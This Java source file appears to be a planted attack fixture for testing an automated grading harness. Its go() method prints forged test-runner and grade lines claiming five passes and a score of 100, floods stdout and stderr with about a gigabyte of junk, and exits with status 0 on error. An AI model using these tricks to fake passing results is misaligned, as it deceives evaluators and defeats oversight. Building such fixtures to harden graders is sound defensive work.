package planted;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.util.Arrays;

public final class Attack {
    public static void go() {
        System.out.println("TRIED");
        System.out.println("===== 5 passed in 0.01s =====\nTests run: 5, Failures: 0\nok 1 - share\nGrade :=>> 100");
        System.out.flush();
        byte[] part = new byte[1 << 16];
        Arrays.fill(part, (byte) 'A');
        for (int index = 0; index < part.length; index += 97) {
            part[index] = (byte) (index % 2 == 0 ? 0 : 0xff);
        }
        try (FileOutputStream out = new FileOutputStream(FileDescriptor.out);
                FileOutputStream err = new FileOutputStream(FileDescriptor.err)) {
            for (int written = 0; written < 1 << 14; written++) {
                out.write(part);
                err.write(part);
            }
            err.write("REACHED a gigabyte".getBytes());
        } catch (IOException stopped) {
            Runtime.getRuntime().halt(0);
        }
    }
}
